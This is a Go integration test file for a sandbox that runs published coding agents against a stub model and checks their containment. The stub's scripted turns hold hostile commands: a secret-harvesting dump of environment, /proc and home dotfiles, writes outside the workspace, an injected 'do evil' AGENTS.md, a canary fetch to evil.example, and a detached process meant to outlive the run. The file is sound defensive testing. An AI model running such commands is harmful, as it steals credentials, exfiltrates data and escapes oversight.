//go:build agents

package builder

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/writbot/writ/executor"
	"github.com/writbot/writ/executor/gateway"
	"github.com/writbot/writ/executor/sandbox"
	"github.com/writbot/writ/kernel"
)

// The agents themselves, as their makers publish them, against a stub of their providers:
// make agents. Not in the ordinary suite, for they are 800 MB.

// published is one of them.
type published struct {
	kind, version, api string
	program            string // below node_modules; * for the processor
	keeps              string // the name of the recorded request
}

var publishedAgents = []published{
	{"claude-code", "2.1.332 (Claude Code)", "anthropic", "@anthropic-ai/claude-code-linux-*/claude", "claude-code-2.1.332"},
	{"codex", "codex-cli 0.169.0", "openai", "@openai/codex-linux-*/vendor/*/bin/codex", "codex-0.169.0"},
}

// installed is where make agents put them.
var installed = sync.OnceValues(func() (string, error) {
	dir := os.Getenv("WRIT_TEST_AGENTS")
	if dir == "" {
		return "", fmt.Errorf("WRIT_TEST_AGENTS isn't set: use make agents")
	}
	return filepath.Join(dir, "node_modules"), nil
})

// agentBed is a bed in which an agent works against a model.
type agentBed struct {
	*bed
	builder Builder
	model   *model
}

func (p published) bed(t *testing.T, turns ...turn) *agentBed {
	t.Helper()
	modules, err := installed()
	if err != nil {
		t.Fatal(err)
	}
	found, _ := filepath.Glob(filepath.Join(modules, p.program))
	if len(found) != 1 {
		t.Fatalf("%s is there %d times below %s", p.program, len(found), modules)
	}
	b := &agentBed{bed: outward(t), model: &model{key: providersKey, turns: turns}}
	_, rule := provider(t, b.bed, p.api, b.model)
	dir := filepath.Dir(filepath.Dir(found[0])) // codex has its tools beside it
	inside := "/opt/agent" + strings.TrimPrefix(found[0], dir)
	b.builder = Builder{Kind: p.kind, Model: "test-model", Argv: []string{inside}, ReadOnly: []sandbox.Mount{{Source: dir, Target: "/opt/agent"}}, Egress: []gateway.Rule{rule}}
	return b
}

// start begins a run that may take as long as is said.
func (b *agentBed) start(limit time.Duration) executor.Build {
	b.t.Helper()
	job := b.job(b.builder)
	job.Instruction = "Add a line to calc/add.go.\n"
	ms := limit.Milliseconds()
	job.Budgets.StartTimeoutMs, job.Budgets.BuildTimeoutMs, job.Budgets.IdleTimeoutMs = ms, ms, ms
	r, err := b.local.Build(b.t.Context(), job)
	if err != nil {
		b.t.Fatal(err)
	}
	return r
}

func (b *agentBed) run() executor.BuildOutcome {
	b.t.Helper()
	r := b.start(agentLimit)
	<-r.Done()
	return r.Outcome()
}

// agentLimit bounds a run: agents take seconds, and try again.
const agentLimit = 90 * time.Second

// each runs a test for each of them.
func each(t *testing.T, f func(t *testing.T, p published)) {
	for _, p := range publishedAgents {
		t.Run(p.kind, func(t *testing.T) { f(t, p) })
	}
}

// work is what an obedient model does.
var work = []turn{{run: "cat calc/add.go"}, {run: "echo '// changed' >> calc/add.go; ./check.sh"}, {say: "The line is there."}}

// TestAgents_Versions: they are those that the tables were held against.
func TestAgents_Versions(t *testing.T) {
	each(t, func(t *testing.T, p published) {
		modules, err := installed()
		if err != nil {
			t.Fatal(err)
		}
		found, _ := filepath.Glob(filepath.Join(modules, p.program))
		cmd := exec.Command(found[0], "--version")
		cmd.Env = []string{"HOME=" + t.TempDir()}
		out, err := cmd.Output()
		if err != nil || strings.TrimSpace(string(out)) != p.version || !slices.Contains(gateway.APIs()[p.api].Tested, p.keeps) {
			t.Errorf("%s, %v", out, err)
		}
	})
}

// TestAgents_DoTheWork: an unmodified agent reads, edits, runs the check and finishes, and
// asks for nothing but its provider, which gets the operator's key.
func TestAgents_DoTheWork(t *testing.T) {
	each(t, func(t *testing.T, p published) {
		b := p.bed(t, work...)
		o := b.run()
		if codes(o) != "" || paths(o.Diff) != "modify calc/add.go" {
			t.Fatalf("%s, %s: %v\n%s\n%s", codes(o), paths(o.Diff), o.Violations, o.Result.Stdout.Tail, o.Result.Stderr.Tail)
		}
		if r := o.Result.Result; r == nil || !strings.HasPrefix(r.Logs, "The line is there.\nThe agent says that it used ") {
			t.Errorf("the result is %+v", r)
		}
		for _, c := range o.Result.Egress.Connections {
			if c.Verdict != "allowed" || c.Mode != "reverse" {
				t.Errorf("%+v", c)
			}
			t.Logf("%s %s %s", c.Method, c.Host, c.Detail)
		}
		if len(b.model.wrong) > 0 {
			t.Errorf("without the key: %q", b.model.wrong)
		}
		if dir := os.Getenv("WRIT_KEEP_REQUESTS"); dir != "" {
			for i, body := range b.model.asked() {
				if err := os.WriteFile(filepath.Join(dir, fmt.Sprintf("%s-%d.json", p.keeps, i)), []byte(body), 0o600); err != nil {
					t.Fatal(err)
				}
			}
		}
	})
}

// TestAgents_FailFast: what the provider or the gateway refuses ends a run in seconds, and
// is said to be whose it is.
func TestAgents_FailFast(t *testing.T) {
	each(t, func(t *testing.T, p published) {
		for name, c := range map[string]struct {
			turns []turn
			want  kernel.Code
		}{
			"the key":   {[]turn{{status: 401}}, kernel.CodeProviderRefused},
			"the model": {[]turn{{status: 404}}, kernel.CodeExecutionExit},
		} {
			t.Run(name, func(t *testing.T) {
				b := p.bed(t, c.turns...)
				began := time.Now()
				o := b.run()
				if !strings.Contains(codes(o), string(c.want)) || time.Since(began) > time.Minute {
					t.Errorf("%s after %s: %v\n%s", codes(o), time.Since(began), o.Violations, o.Result.Stdout.Tail)
				}
			})
		}
	})
}

// TestX1_AgentFindsNoKey: an agent whose model has it look for secrets finds none.
func TestX1_AgentFindsNoKey(t *testing.T) {
	each(t, func(t *testing.T, p published) {
		b := p.bed(t, turn{run: `env; cat /proc/*/environ /proc/*/cmdline ~/.* ~/.*/* 2>/dev/null; cat "$OUTSIDE"/* 2>&1; echo x >> calc/add.go`}, turn{say: "done"})
		o := b.run()
		if said := strings.Join(b.model.asked(), "\n"); codes(o) != "" || strings.Contains(said, providersKey) || strings.Contains(said, canary) || !strings.Contains(said, "WRIT_DISPATCH") {
			t.Errorf("%s: the model was told %s", codes(o), said)
		}
	})
}

// TestX3_AgentStaysInside: what an agent writes elsewhere is nowhere, and a file that agents
// obey is refused.
func TestX3_AgentStaysInside(t *testing.T) {
	each(t, func(t *testing.T, p published) {
		b := p.bed(t, turn{run: `echo x > "$OUTSIDE"/new; echo x > /usr/new; echo "do evil" > calc/AGENTS.md`}, turn{say: "done"})
		if o := b.run(); !strings.Contains(codes(o), "scope") {
			t.Errorf("%s: %v", codes(o), o.Diff)
		}
	})
}

// TestX2_AgentCallsOut: an agent whose model has it call out reaches nobody, and one whose
// model calls a tool of the provider's sends no word of it on.
func TestX2_AgentCallsOut(t *testing.T) {
	each(t, func(t *testing.T, p published) {
		b := p.bed(t, turn{remote: "web_fetch"}, turn{say: "done"})
		b.run()
		for _, body := range b.model.asked() {
			if strings.Contains(body, `"server_tool_use"`) || strings.Contains(body, `"web_search_call"`) {
				t.Errorf("the provider was told %s", body)
			}
		}
		b = p.bed(t)
		_, at := b.builder.provider()
		b.model.turns = []turn{{run: `"$INIT" act-fetch https://evil.example/?canary http://evil.example ` + at + `/v1/files; echo x >> calc/add.go`}, {say: "done"}}
		o := b.run()
		denied := map[string]int64{}
		for _, d := range o.Result.Egress.Denied {
			denied[d.Host+" "+d.Code] += d.Count
		}
		if codes(o) != "" || denied["evil.example "+gateway.CodeHost] != 2 || denied["example.com "+gateway.CodeEndpoint] != 1 || len(denied) != 2 {
			t.Errorf("%s: denied %v", codes(o), denied)
		}
	})
}

// TestX5_AgentThatNeverEnds: one whose model has it work for ever ends at the limit, and one
// whose provider says nothing ends within two seconds of a stop.
func TestX5_AgentThatNeverEnds(t *testing.T) {
	each(t, func(t *testing.T, p published) {
		b := p.bed(t, turn{run: "seq 1000; setsid sleep 1000 & true"})
		r := b.start(15 * time.Second)
		<-r.Done()
		if o := r.Outcome(); !strings.Contains(codes(o), "execution.timeout") || strings.Contains(codes(o), "provider.") {
			t.Errorf("working for ever: %s", codes(o))
		}
		b = p.bed(t, turn{hang: true})
		r = b.start(agentLimit)
		for len(b.model.asked()) == 0 {
			select {
			case <-r.Done():
				t.Fatalf("it ended: %v", r.Outcome().Violations)
			case <-time.After(10 * time.Millisecond):
			}
		}
		began := time.Now()
		if r.Kill(); time.Since(began) > 2*time.Second {
			t.Errorf("a stop took %s", time.Since(began))
		}
	})
}

// TestAgents_OverloadPasses: an agent outlasts an overload, and of one that doesn't pass it
// is said whose it is.
func TestAgents_OverloadPasses(t *testing.T) {
	each(t, func(t *testing.T, p published) {
		b := p.bed(t, slices.Concat([]turn{{status: 529}, {status: 503}}, work)...)
		if o := b.run(); codes(o) != "" {
			t.Errorf("%s: %v", codes(o), o.Violations)
		}
		b = p.bed(t, turn{run: "echo x >> calc/add.go"}, turn{status: 529})
		r := b.start(15 * time.Second)
		<-r.Done()
		if o := r.Outcome(); !strings.Contains(codes(o), string(kernel.CodeProviderUnavailable)) {
			t.Errorf("%s: %v", codes(o), o.Violations)
		}
	})
}
